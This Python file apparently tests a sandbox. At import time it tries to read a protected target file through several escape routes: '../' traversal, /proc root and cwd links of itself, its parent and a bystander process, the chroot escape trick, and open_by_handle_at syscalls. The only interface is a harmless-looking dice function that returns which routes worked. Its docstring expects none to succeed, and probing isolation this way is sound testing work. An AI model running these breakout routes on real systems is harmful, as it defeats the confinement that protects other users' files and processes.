"""Leaves its folder upwards: by dots, by descriptors, by links of /proc, by changing the root, by handles.

Ends: Returned 'reached []'
"""

import ctypes
import json
import os
import platform

targets = json.load(open("targets.json"))
reference = targets["reference"]
library = ctypes.CDLL(None, use_errno=True)
ELSEWHERE = platform.machine() != "x86_64"
reached = []


def attempt(name, path, start=None):
    for flags in (os.O_RDONLY, os.O_PATH):
        try:
            descriptor = os.open(path, flags, dir_fd=start)
            if os.read(os.open(f"/proc/self/fd/{descriptor}", os.O_RDONLY) if flags == os.O_PATH else descriptor, 10):
                reached.append(name)
        except OSError:
            pass


def by_root():
    os.chroot(".")
    for _ in range(50):
        os.chdir("..")
    os.chroot(".")
    attempt("root", reference)


def by_steps():
    where = os.open("/", os.O_PATH)
    for name in reference.strip("/").split("/")[:-1]:
        where = os.open(name, os.O_PATH | os.O_DIRECTORY, dir_fd=where)
    attempt("steps", reference.split("/")[-1], where)


def by_folder():
    os.chdir(os.path.dirname(reference))
    attempt("folder", os.path.basename(reference))


def by_handle():
    handle = (ctypes.c_uint * 36)(128, 0)
    mount = ctypes.c_int()
    name, opened = ((303, 304), (264, 265))[ELSEWHERE]
    if library.syscall(name, -100, reference.encode(), handle, ctypes.byref(mount), 0) == 0:
        if library.syscall(opened, os.open("/", os.O_RDONLY), handle, os.O_RDONLY) >= 0:
            reached.append("handle")


attempt("name", reference)
attempt("dots", "../" * 40 + reference)
attempt("doubled", "/" + reference)
attempt("link of the process", "/proc/self/root" + reference)
attempt("link of the folder", "/proc/self/cwd/" + "../" * 40 + reference)
attempt("thread", f"/proc/self/task/{os.getpid()}/root{reference}")
attempt("parent", f"/proc/{os.getppid()}/root{reference}")
attempt("bystander", f"/proc/{targets['pid']}/root{reference}")
attempt("bystander's folder", f"/proc/{targets['pid']}/cwd/{os.path.basename(reference)}")
for way in (by_steps, by_handle, by_folder, by_root):
    try:
        way()
    except OSError:
        pass


def dice(a, b):
    return f"reached {reached}"
